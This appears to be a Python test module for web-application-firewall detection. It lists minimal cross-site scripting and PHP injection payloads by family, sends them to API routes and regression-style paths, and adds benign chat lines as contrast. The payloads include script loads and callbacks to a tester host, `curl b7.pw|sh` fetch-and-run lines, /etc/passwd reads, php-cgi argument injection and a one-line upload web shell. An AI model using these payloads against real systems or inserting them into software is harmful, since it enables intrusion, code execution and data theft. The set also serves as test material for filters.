"""Blind set "hundredfortieth": the shortest working form of each cross-site scripting and PHP injection family,
with benign requests that carry the same words innocently.

The angle: a bug-bounty hunter facing a field capped at 8, 16, 24 or 32 characters, or a filter that rejects
anything long, writes the minimal form of each family: the fewest characters that still reach the target (a
browser, the PHP interpreter, an eval() or unserialize() sink, an include() sink, php-cgi, the web server's PHP
handler) and do something observable (a script run, a callback to the tester's host, a delay, an error, output of
a command, a file read, a flipped boolean). Each family has payloads at several lengths (twelve characters or
fewer, 13 to 24, 25 to 40; a few full exploits that cannot be shorter run a little over), and the comment above
each list names its target. The tester's host is the short b7.pw.

Families and sub-families (one per detection title, as remembered):
  xss: libinjection-xss (attribute breakouts in each quoting context), script-tag, event-handler,
    attribute-vector (src/href/style/formaction/srcdoc), javascript-uri, html-injection
    (iframe/object/embed/base/meta/link/form, dangling markup, page-swallowing tags), svg-mathml,
    css-expression, template-literal-dom-sink (JS string and template contexts, JSONP, eval sinks),
    ie-filter-vectors (vbscript:, dynsrc/lowsrc, bgsound, htc behaviours, CSS escapes), encoded-entity-vectors,
    angular-vue-client-templates
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data:, phar://, expect://,
    zip://, glob://, compress.zlib://), php-object-injection (serialized O:/a:/C:/b:), php-config-directives
    (php-cgi -d and soft-hyphen argument injection, .user.ini and .htaccess lines, ini_set),
    superglobals, php-file-upload (.php/.phtml/.phar names and their tricks), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a
raw form-typed body that is not key=value, or in User-Agent, Referer, a custom header or a cookie. Upload names
go as multipart filenames (with a one-line web shell, or the .htaccess / .user.ini line the name needs);
php-cgi argument injections go as a bare query string without `=` (spaces as `+`, `=` percent-encoded, the soft
hyphen as %AD); superglobal overwrites written `name=value` go unquoted as a parameter or a raw form body.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Entry, Put, Record, request
from .family_gen import _get
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredfortieth"

# ----------------------------------------------------------------------------------------------------------------
# XSS

# browser: libinjection's contexts, each reached from where the value lands (text, unquoted, single-quoted,
# double-quoted attribute value), the fewest characters that close it and start a script
LIBINJECTION_XSS = [
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "><svg onload=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '",
    "x onfocus=alert(1) autofocus",
    '"><img src onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '"><iframe onload=alert(1)>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    '"><a href=javascript:alert(1)>x',
    "<p onmouseover=alert(1)>x",
    "<x onclick=alert(1)>x",
    "<img src onerror=alert`1`>",
]

# browser: <script> elements, in a page's text or after breaking out of an inline script
SCRIPT_TAG = [
    "</script>",
    "</ScRiPt >",
    "<script src=//b7.pw>",
    "<script src=//b7.pw></script>",
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script>print()</script>",
    "<script>eval(name)</script>",
    "<script src=data:,alert(1)>",
    "<script src=data:,alert(1)></script>",
    "</script><script>alert(1)//",
    "</script><svg onload=alert(1)>",
    "<script>import('//b7.pw')</script>",
    "<script src=//3279880203>",
    "<script type=module>alert(1)</script>",
    "<script>onerror=alert;throw 1</script>",
    "<script>location=name</script>",
    "<script\tsrc=//b7.pw></script>",
]

# browser: event handlers, bare (injected into an open tag) and on the element that fires them unaided
EVENT_HANDLER = [
    "oncut=alert(1)",
    "onload=alert(1)",
    "onclick=alert(1)",
    "onerror=alert(1)",
    "onauxclick=alert(1)",
    "onmouseover=alert(1)",
    " onfocus=alert(1) autofocus",
    "onanimationstart=alert(1)",
    "<body onpageshow=alert(1)>",
    "<body onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style onload=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onmouseenter=alert(1)>x",
    "<a onpointerdown=alert(1)>x",
    "<frameset onload=alert(1)>",
    "<x contenteditable onblur=alert(1)>x",
    "<x tabindex=1 autofocus onfocus=alert(1)>",
]

# browser: script through a URL- or style-carrying attribute (src, href, action, formaction, data, srcdoc)
ATTRIBUTE_VECTOR = [
    '" href="javascript:alert(1)',
    '" src=javascript:alert(1) "',
    '" formaction="javascript:alert(1)',
    "<iframe src=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<iframe srcdoc='<svg onload=alert(1)>'>",
    "<a href=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "<video poster=javascript:alert(1)>",
    '" style="background:url(//b7.pw)',
    "<input type=image src=x onerror=alert(1)>",
    "<form><button formaction=//b7.pw>x",
    "<area href=javascript:alert(1)>",
    "data:,alert(1)",
]

# browser: a link, redirect target or location field that takes a whole URL
JAVASCRIPT_URI = [
    "javascript:name",
    "javascript:print()",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:alert`1`",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript:%61lert(1)",
    "javascript:confirm(1)",
    "javascript:eval(name)",
    "javascript://%0aalert(1)",
    r"javascript:\u0061lert(1)",
    "javascript:void(alert(1))",
    "javascript:import('//b7.pw')",
    "javascript:top['al'+'ert'](1)",
    "javascript:alert(document.domain)",
    "javascript:setTimeout('alert(1)')",
    "javascript://trusted.com/%0aalert(1)",
    "javascript:x='<svg/onload=alert(1)>'",
    "javascript:eval(location.hash.slice(1))",
]

# browser: markup that loads, frames, redirects, hijacks forms or swallows the rest of the page
HTML_INJECTION = [
    "<!--",
    "<xmp>",
    "<textarea>",
    "<plaintext>",
    "<style>",
    "<iframe>",
    "<noembed>",
    "<noscript>",
    "<marquee>",
    "<title>",
    "<img src=//b7.pw>",
    "<a href=//b7.pw>",
    "<embed src=//b7.pw>",
    "<base href=//b7.pw/>",
    "<iframe src=//b7.pw>",
    "<img src='//b7.pw/?",
    "<object data=//b7.pw>",
    "<form action=//b7.pw>",
    "<iframe/src=//b7.pw>",
    "<frameset><frame src=//b7.pw>",
    "<link rel=import href=//b7.pw>",
    "<link rel=stylesheet href=//b7.pw>",
    "<form action=//b7.pw><input name=p>",
    "<applet code=x.class codebase=//b7.pw>",
    "<img name=getElementById>",
    "<meta http-equiv=refresh content=0;//b7.pw>",
    "<object data=//b7.pw type=text/html>",
    '"><base href=//b7.pw/>',
]

# browser: SVG and MathML elements and their namespace tricks
SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=print()>",
    "<svg onload=alert`1`>",
    "<svg onload=eval(name)>",
    "<svg\nonload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg/onload=import('//b7.pw')>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=1 onerror=alert(1)>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a href=javascript:alert(1)><text>x",
    "<svg><style><img src onerror=alert(1)>",
    "<math><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<svg><script href=//b7.pw />",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script href=data:,alert(1) />",
    "<svg><foreignObject><iframe src=//b7.pw>",
]

# browser: CSS in a style attribute or stylesheet: IE expression() and behaviours, Firefox -moz-binding, and
# url()/@import callbacks for exfiltration
CSS_EXPRESSION = [
    "url(//b7.pw)",
    "@import'//b7.pw';",
    "@import url(//b7.pw);",
    "x:expression(alert(1))",
    "x:e\\xpression(alert(1))",
    "x:\\65xpression(alert(1))",
    "background:url(//b7.pw)",
    "*{x:expression(alert(1))}",
    "x:expr/**/ession(alert(1))",
    "width:expression(alert(1))",
    "behavior:url(//b7.pw/x.htc)",
    "}*{background:url(//b7.pw)}",
    "</style><svg onload=alert(1)>",
    "<style>@import'//b7.pw'</style>",
    "<x style=x:expression(alert(1))>",
    "-moz-binding:url(//b7.pw/x.xml#x)",
    "background:url(javascript:alert(1))",
    "[value^=a]{background:url(//b7.pw/a)}",
    "<div style=width:expression(alert(1))>",
    "<style>*{x:expression(alert(1))}</style>",
]

# browser: values that land inside JavaScript: string and template-literal contexts, JSONP callbacks, eval(),
# setTimeout() and location sinks, location.hash into innerHTML
TEMPLATE_LITERAL_DOM_SINK = [
    "print()",
    "alert(1)",
    "alert(1)//",
    "eval(name)",
    "${alert(1)}",
    "`-alert(1)-`",
    "'-alert(1)-'",
    "'+alert(1)+'",
    "1;alert(1)",
    "${print()}",
    "';print()//",
    "top.alert(1)",
    "(alert)(1)",
    '"-alert(1)-"',
    "';alert(1)//",
    "x=alert;x(1)",
    "\\';alert(1)//",
    "'};alert(1)//",
    "location=name",
    "import('//b7.pw')",
    "${import('//b7.pw')}",
    "onerror=alert;throw 1",
    "'-import('//b7.pw')-'",
    'Function("alert(1)")()',
    "setTimeout('alert(1)')",
    "alert(document.cookie)",
    "#<img src onerror=alert(1)>",
    "'-eval(atob('YWxlcnQoMSk='))-'",
    "top[/al/.source+/ert/.source](1)",
    "constructor.constructor('alert(1)')()",
]

# browser: Internet Explorer and other legacy engines (vbscript:, dynsrc/lowsrc, bgsound, background, HTC
# behaviours, scriptlets, CSS escapes inside @import)
IE_FILTER_VECTORS = [
    "vbscript:msgbox(1)",
    "<a href=vbscript:msgbox(1)>x",
    "<iframe src=vbscript:msgbox(1)>",
    "<img src=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<isindex onmouseover=alert(1)>",
    "<div style=behavior:url(//b7.pw/x.htc)>",
    "<object type=text/x-scriptlet data=//b7.pw>",
    r"@im\port'\ja\vasc\ript:alert(1)'",
    "<frameset><frame src=vbscript:msgbox(1)>",
    "<img src=x onerror=vbscript:msgbox(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<v:imagedata src=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
]

# browser, after the server or the browser decodes: entities in attributes, JS escapes into innerHTML,
# double URL decoding, IIS %u, UTF-7, overlong UTF-8, fullwidth forms folded by NFKC
ENCODED_ENTITY_VECTORS = [
    "\uff1csvg onload=alert(1)\uff1e",
    "&#x6A;avascript:alert(1)",
    "javascript:&#97;lert(1)",
    "jav&#x09;ascript:alert(1)",
    r"\74svg onload=alert(1)\76",
    r"\x3csvg onload=alert(1)\x3e",
    "&lt;svg onload=alert(1)&gt;",
    "%3Csvg%20onload%3Dalert(1)%3E",
    r"\u003csvg onload=alert(1)\u003e",
    "%u003csvg onload=alert(1)%u003e",
    "%C0%BCsvg onload=alert(1)%C0%BE",
    "<svg onload=alert&#x28;1&#x29;>",
    "<img src=x onerror=&#97;lert(1)>",
    r"<img src=x onerror=\u0061lert(1)>",
    "<a href=&#106avascript:alert(1)>x",
    "<a href=javascript&colon;alert(1)>x",
    "<svg><script>alert&#40;1)</script>",
    "<svg onload=eval(atob('YWxlcnQoMSk='))>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%253Csvg%2520onload%253Dalert(1)%253E",
]

# browser: AngularJS 1.x (1.6+ has no sandbox) and Vue 2/3 compiling server-rendered HTML
ANGULAR_VUE = [
    "{{7*7}}",
    "{{$id}}",
    "{{_c}}",
    "{{7*'7'}}",
    "{{$data}}",
    "{{_c.constructor('alert(1)')()}}",
    "{{_v.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{$emit.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "<x ng-click=$event.view.alert(1)>x",
    "<x ng-init=$on.constructor('alert(1)')()>",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{constructor.constructor('alert(1)')()}}",
    "<x @click=_c.constructor('alert(1)')()>x",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<x v-if=_c.constructor('alert(1)')()>",
]

# ----------------------------------------------------------------------------------------------------------------
# PHP

# PHP interpreter: text written into a .php file, a log later included, or a template PHP runs
PHP_OPEN_TAG = [
    "<?=`id`;",
    "<?=7*7?>",
    "<%=`id`%>",
    "<?=`id`?>",
    "<?=md5(1)?>",
    "<?=sleep(5)?>",
    "<?=`whoami`?>",
    "<?=phpinfo()?>",
    "<?=`sleep 5`?>",
    "<?PHP echo`id`;",
    "<?=`$_GET[0]`?>",
    "GIF89a<?=`id`?>",
    "<?=include$_GET[0];",
    "<% system('id'); %>",
    "<?php\nsystem('id');",
    "<?=`curl b7.pw|sh`?>",
    "<?php system('id');",
    "<?=`nslookup b7.pw`?>",
    "<?php passthru('id');",
    "<?php system('id');?>",
    "<?=`cat /etc/passwd`?>",
    "<?php eval($_POST[0]);",
    "<?=$_GET[0]($_GET[1])?>",
    "<?php @eval($_REQUEST[0]);?>",
    "<?php echo shell_exec($_GET['c']);?>",
    "<?=file_get_contents('/etc/passwd')?>",
    "<script language=php>phpinfo()</script>",
]

# PHP eval()/assert() sink: the code it runs, or the fewest characters that close the surrounding string or
# statement and call a command or code function
PHP_FUNCTION_CALL = [
    "sleep(5)",
    "echo`id`;",
    "die(`id`)",
    "print`ls`;",
    "passthru(id)",
    "exit(`ls /`)",
    "usleep(5e6)",
    "system('id')",
    "passthru('id')",
    "exec('sleep 5')",
    "${system('id')}",
    "echo exec('id');",
    ";system('id');//",
    '".system(\'id\')."',
    "'.system('id').'",
    "}system('id');//",
    "{${system('id')}}",
    "';system('id');//",
    "system('sleep 5')",
    "popen('sleep 5','r')",
    "eval('system(\"id\");')",
    "echo shell_exec('id');",
    'assert(\'system("id")\')',
    "system('nslookup b7.pw')",
    "proc_open('sleep 5',[],$p)",
    "passthru('cat /etc/passwd')",
    "shell_exec('curl b7.pw|sh')",
    "pcntl_exec('/bin/sh',['-c','id'])",
    "create_function('','}system(\"id\");//')",
    "preg_replace('/.*/e','system(\"id\")','')",
    "eval(file_get_contents('php://input'))",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
]

# PHP eval() sink: a function called through a string, a variable or a callback, so its name never appears
# as `name(`
PHP_VARIABLE_FUNCTIONS = [
    "$_GET[0]()",
    "$_GET['a']()",
    "$_POST[0]()",
    "'system'('id')",
    "'sYsTeM'('id')",
    "${'_GET'}[0]()",
    '"\\x73ystem"(\'id\')',
    "$_GET[0]($_GET[1])",
    "('sys'.'tem')('id')",
    "[$_GET[0]][0]('id')",
    "$_POST[0]($_POST[1])",
    "usort($_GET,'assert')",
    "$a='system';$a('id');",
    "strrev('metsys')('id')",
    "$a=$_GET;$a[0]($a[1]);",
    "$_COOKIE[0]($_COOKIE[1])",
    "(chr(115).'ystem')('id')",
    "(\"\x13\x19\x13\x14\x05\r\"|\"``````\")('id')",
    "array_map('system',['id'])",
    "call_user_func('system','id')",
    "array_filter(['id'],'system')",
    "hex2bin('73797374656d')('id')",
    "base64_decode('c3lzdGVt')('id')",
    '"\\163\\171\\163\\164\\145\\155"(\'id\')',
    "implode('',['sys','tem'])('id')",
    "$x=str_rot13('flfgrz');$x('id');",
    "forward_static_call('system','id')",
    "call_user_func_array('system',['id'])",
    "register_shutdown_function('system','id')",
]

# PHP include()/require()/file_get_contents()/fopen() sink: its stream wrappers
PHP_WRAPPERS = [
    "glob://*",
    "php://input",
    "PHP://Input",
    "php://stdin",
    "expect://id",
    "expect://ls",
    "glob://*.php",
    "phar://./a.gif",
    "data:,<?=`id`?>",
    "expect://whoami",
    "zip://a.zip#s.php",
    "rar://x.rar#x.php",
    "glob:///var/www/*",
    "phar:///tmp/x.phar",
    "zip://uploads/a.jpg%23x",
    "phar://avatar.jpg/x.php",
    "expect://nslookup b7.pw",
    "data:;base64,PD89YGlkYDs=",
    "data://text/plain,<?=`id`;",
    "php://filter/resource=index",
    "compress.zlib:///etc/passwd",
    "compress.zlib://php://input",
    "php://filter/resource=/etc/passwd",
    "data:text/plain,<?php system('id');",
    "data://text/plain;base64,PD89YGlkYDs=",
    "php://filter/string.rot13/resource=index",
    "php://filter/zlib.deflate/resource=index",
]

# PHP unserialize() of a cookie or parameter: loose-comparison flips, objects whose magic methods run,
# filter bypasses of the format, errors that prove the sink
PHP_OBJECT_INJECTION = [
    "b:1;",
    "i:0;",
    "d:0;",
    "a:0:{}",
    "O:1:\"A\":0:{}",
    "C:1:\"A\":0:{}",
    "O:+1:\"A\":0:{}",
    "O:3:\"PDO\":0:{}",
    "O:8:\"DateTime\":0:{}",
    "O:8:\"stdClass\":0:{}",
    "O:9:\"Exception\":0:{}",
    "a:1:{i:0;O:1:\"A\":0:{}}",
    "a:1:{s:5:\"admin\";b:1;}",
    "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
    "O:1:\"A\":1:{S:1:\"\\61\";b:1;}",
    "a:1:{s:4:\"user\";s:5:\"admin\";}",
    "O:4:\"User\":1:{s:5:\"admin\";b:1;}",
    "O:4:\"User\":2:{s:5:\"admin\";b:1;}",
    "O:1:\"A\":1:{s:1:\"c\";s:2:\"id\";}",
    "O:4:\"User\":1:{s:7:\"isAdmin\";i:1;}",
    "O:1:\"a\":1:{s:1:\"b\";O:1:\"c\":0:{}}",
    "O:3:\"Log\":1:{s:1:\"f\";s:5:\"x.php\";}",
    "O:4:\"User\":1:{s:8:\"\x00*\x00admin\";b:1;}",
    "O:8:\"stdClass\":1:{s:5:\"admin\";b:1;}",
    "O:4:\"User\":1:{s:4:\"role\";s:5:\"admin\";}",
]

# php-cgi argument injection (CVE-2012-1823; CVE-2024-4577's soft hyphen on Windows code pages), and the
# directive lines a .user.ini or .htaccess upload or an ini_set() in an eval() sink carries
PHP_CONFIG_DIRECTIVES = [
    "-s",
    "\xads",
    "-i",
    "-d safe_mode=0",
    "-d open_basedir=/",
    "-dallow_url_include=1",
    "-d disable_functions=",
    "-d allow_url_include=1",
    "\xadd allow_url_include=1",
    "-d zend_extension=/tmp/x.so",
    "-d auto_prepend_file=/proc/self/environ",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "\xadd allow_url_include=1 \xadd auto_prepend_file=php://input",
    "short_open_tag=1",
    "display_errors=1",
    "allow_url_fopen=1",
    "include_path=/tmp",
    "php_flag engine on",
    "register_globals=1",
    "allow_url_include=1",
    "auto_append_file=x.gif",
    "auto_prepend_file=a.jpg",
    "error_log=/var/www/x.php",
    "ini_set('display_errors',1)",
    "ini_set('error_log','x.php')",
    "auto_prepend_file=php://input",
    "SetHandler application/x-httpd-php",
    "php_value auto_prepend_file /tmp/x",
    "AddType application/x-httpd-php .jpg",
    "auto_prepend_file=/proc/self/environ",
]

# PHP: superglobals read by code an eval() sink runs, and written over through extract(), parse_str() or
# register_globals by a parameter named after them
SUPERGLOBALS = [
    "GLOBALS[admin]=1",
    "_SESSION[admin]=1",
    "_COOKIE[role]=admin",
    "_SESSION[user_id]=1",
    "GLOBALS[_SESSION][admin]=1",
    "_SERVER[REMOTE_ADDR]=127.0.0.1",
    "extract($_GET)",
    "eval($_GET[0])",
    "var_dump($_ENV)",
    "echo`$_GET[0]`;",
    "eval(end($_GET))",
    "print_r($_SERVER)",
    "print_r($GLOBALS)",
    "include $_GET[0];",
    "var_dump($_COOKIE)",
    "var_dump($_SESSION)",
    "system($_COOKIE[0])",
    "$GLOBALS['admin']=1",
    "assert($_REQUEST[0])",
    "$_SESSION['admin']=1",
    "${$_GET[0]}=$_GET[1]",
    "echo`$_SERVER[HTTP_X]`;",
    "eval($_SERVER['HTTP_X'])",
    "$_REQUEST[0]($_REQUEST[1])",
    "die($_SERVER['DOCUMENT_ROOT'])",
    "include $_FILES['f']['tmp_name'];",
]

# web server's PHP handler (Apache mod_php/AddHandler, nginx+php-fpm, IIS): the upload's file name
PHP_FILE_UPLOAD = [
    "x.php",
    "s.pht",
    "s.pHp",
    "s.phar",
    "s.php5",
    "s.php7",
    "s.php4",
    "s.php3",
    "s.php.",
    "s.php ",
    "s.phtml",
    "../x.php",
    ".htaccess",
    ".user.ini",
    "s.php.jpg",
    "s.jpg.php",
    "s.php;.jpg",
    "....//s.php",
    "s.php%00.jpg",
    "s.php::$DATA",
    "..\\..\\s.php",
    "..%2f..%2fs.php",
    "avatar.png.phtml",
    "/var/www/html/s.php",
    "filename*=UTF-8''s.php",
    "../../../var/www/html/s.php",
]

# PHP eval() sink: file, network, process and information functions, and the decoders that hide code
PHP_HIGH_RISK_FUNCTIONS = [
    "phpinfo()",
    "dl('x.so')",
    "unlink(__FILE__)",
    "symlink('/','x')",
    "die(php_uname())",
    "print_r(getenv())",
    "print_r(glob('/*'))",
    "show_source(__FILE__)",
    "print_r(scandir('/'))",
    "fsockopen('b7.pw',80)",
    "pfsockopen('b7.pw',80)",
    "readfile('/etc/passwd')",
    "mail('a@b7.pw','x','x')",
    "rename('x.jpg','x.php')",
    "die(get_current_user())",
    "putenv('LD_PRELOAD=x.so')",
    "print_r(posix_getpwuid(0))",
    "die(php_ini_loaded_file())",
    "die(file('/etc/passwd')[0])",
    "print_r(get_defined_vars())",
    "posix_kill(posix_getpid(),9)",
    "highlight_file('/etc/passwd')",
    "curl_exec(curl_init('b7.pw'))",
    "imap_open('{b7.pw:143}','','')",
    "copy('http://b7.pw/s','x.php')",
    "error_log('<?=`id`?>',3,'x.php')",
    "print_r(get_loaded_extensions())",
    "file_get_contents('http://b7.pw')",
    "eval(str_rot13('flfgrz(\"vq\");'))",
    "die(ini_get('disable_functions'))",
    "file_put_contents('x.php',$_GET[0])",
    "fwrite(fopen('x.php','w'),$_GET[0])",
    "stream_socket_client('tcp://b7.pw:80')",
    "echo file_get_contents('/etc/passwd');",
    "eval(gzinflate(base64_decode($_GET[0])))",
]

FAMILIES: list[tuple[str, str, list[str]]] = [
    ("xss", "libinjection-xss", LIBINJECTION_XSS),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE_VECTOR),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", TEMPLATE_LITERAL_DOM_SINK),
    ("xss", "ie-filter-vectors", IE_FILTER_VECTORS),
    ("xss", "encoded-entity-vectors", ENCODED_ENTITY_VECTORS),
    ("xss", "angular-vue-client-templates", ANGULAR_VUE),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG_DIRECTIVES),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", PHP_FILE_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK_FUNCTIONS),
]

# the one-line web shell an upload carries, or the configuration line the file name needs to matter
UPLOAD_SHELL = "<?=`$_GET[0]`?>"
UPLOAD_BODIES = {".htaccess": "AddType application/x-httpd-php .jpg\n", ".user.ini": "auto_prepend_file=a.jpg\n"}
# superglobal overwrites written as `name=value`: sent unquoted as the parameter itself
RAW_KV = re.compile(r"^(?:GLOBALS|_SESSION|_COOKIE|_SERVER|_GET|_POST|_ENV)\[[^=]*=")

# ----------------------------------------------------------------------------------------------------------------
# Placements
def _cgi_query(value: str) -> str:
    """php-cgi argv in a query string: `+` between arguments, `=` encoded, the soft hyphen as the byte 0xAD."""
    raw = value.encode("latin-1") if all(ord(ch) < 256 for ch in value) else value.encode()
    return urllib.parse.quote_plus(raw, safe=":/")


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "filter", "name", "template", "url", "callback", "data", "sort", "message"]
    raw_places = ("form", "param-name", "rs-param-name", "rs-raw-body")
    xml_places = ("xml", "rs-xml", "rs-raw-body", "multipart-field")
    xml_controls = "\t\n"

    def entries(self) -> Iterator[tuple[int, int, str, str, Entry]]:
        for s, i, category, sub, entry in super().entries():
            yield s, i, category, sub, (_fixed(sub, i, entry) if isinstance(entry, str) else None) or entry

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and sub == "superglobals"

    def upload_body(self, filename: str) -> str:
        for suffix, body in UPLOAD_BODIES.items():
            if filename.endswith(suffix):
                return body
        return UPLOAD_SHELL

    def _p_query_string(self, p: Put) -> Record:
        return _get("/api/users?" + _cgi_query(p.v))

    def _p_rs_query_string(self, p: Put) -> Record:
        return request("GET", p.path + "?" + _cgi_query(p.v))


SET = _Set()


def _fixed(sub: str, i: int, payload: str) -> tuple[str, str, str] | None:
    """The placements of a payload that only works in one kind of place (a raw one for superglobals)."""
    if sub == "php-file-upload":
        return payload, "multipart-filename", "rs-multipart-filename"
    if sub == "php-config-directives" and payload.startswith(("-", "\xad")):
        return payload, "query-string", "rs-query-string"
    if sub == "superglobals" and RAW_KV.match(payload):
        return (payload, "param-name", "rs-raw-body") if i % 2 == 0 else (payload, "form", "rs-param-name")
    return None


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # front-end engineers on XSS fixes and browser behaviour
    "the XSS report from the bug bounty was valid, the bio field was rendered without escaping, fix is in review",
    "we switched the profile page to textContent instead of innerHTML, no more markup from user bios",
    "CSP is now script-src 'self' with nonces, inline event handlers will stop working on the admin pages",
    "heads up: the onload handler on the avatar image was removed, we lazy-load with IntersectionObserver",
    "can someone check why the script tag for analytics loads twice on the settings page?",
    "Safari blocks the iframe because of X-Frame-Options DENY, that's expected for the admin panel",
    "the SVG icons are inlined now, file size dropped by 40%",
    "MathML rendering landed in Chrome 109, the formulas in the help center finally look right",
    "the javascript: links in the old help center were replaced by buttons, accessibility audit passed",
    "DOMPurify is pinned to 3.1.x, please don't bump it without running the sanitizer tests",
    "template literals in the email builder are fine, the values are escaped before they reach the DOM",
    "we use ${user.firstName} in the greeting, the template engine escapes it",
    "the alert() calls in the old settings page were replaced by toast notifications",
    "document.cookie isn't readable anymore since the session cookie is HttpOnly, as it should be",
    "the Angular 1.x admin is finally gone, the new one is React; the {{ }} bindings are history",
    "Vue devtools show the whole component tree in staging, disable them in the prod build please",
    "IE11 support ended last year, we can delete the expression() fallbacks from the stylesheet",
    "the old VBScript macro in the finance spreadsheet still needs Excel on Windows",
    "the base64 avatar previews are data URLs, they never leave the browser",
    "the encoding bug: names with an ampersand showed &amp; in the weekly email, fixed by not double escaping",
    "form action points to /admin/users/search, and the csrf_token is in a hidden input",
    "the meta refresh on the maintenance page redirects after 30 seconds, product wants 10",
    "styled-components generate class names at build time, no style attributes in the markup anymore",
    "print() on the invoice page opens the dialog twice in Firefox, known bug, workaround in the ticket",
    "the embed code for the weather widget is an iframe, customers paste it into their intranet",
    "the marquee on the status page was a joke from 2019, it's gone now",
    "the onclick on the delete button now asks for confirmation first",
    "escaping in the Slack blocks: Slack turns angle brackets into entities, our renderer unescapes only those",
    # PHP and legacy backend chat
    "the legacy billing app is still PHP 7.4, the migration to 8.3 is planned for Q3",
    "php-fpm pool ran out of workers again during the import, bumping pm.max_children to 40",
    "composer install fails on the runner because ext-intl is missing in the image",
    "phpinfo() page was removed from the old admin, it leaked the environment",
    "we disabled exec and shell_exec in php.ini on the billing box, the PDF export uses a queue now",
    "the WordPress marketing site updated to 6.5 last night, all plugins are green",
    "the .htaccess rewrite for the blog is gone now that nginx serves it",
    "Laravel queue worker restarts every hour, memory leaks in the PDF library",
    "unserialize() of the cart cookie was replaced by json_decode in the legacy shop, thanks Priya",
    "the include path in the old wiki is /usr/share/php, don't change it",
    "the upload form accepts only png, jpg and pdf now; php and phtml files are rejected by the extension check",
    "auto_prepend_file is set for the APM agent on the billing servers, that's intentional",
    "allow_url_include stays off everywhere, allow_url_fopen is on for the currency rates fetch",
    "the system() call in the backup script was replaced by Symfony Process",
    "PHPStan level 8 passes on the billing repo now, great work",
    "the $_SESSION lifetime on the legacy admin is 24 minutes, product wants it longer",
    "$_SERVER['HTTP_X_FORWARDED_FOR'] is only trusted from the load balancer IPs",
    "error_log goes to stderr in the container, the file path in php.ini is ignored",
    "display_errors is off in prod, on in the dev compose file",
    "the glob pattern in the cleanup cron missed the .phar caches, fixed",
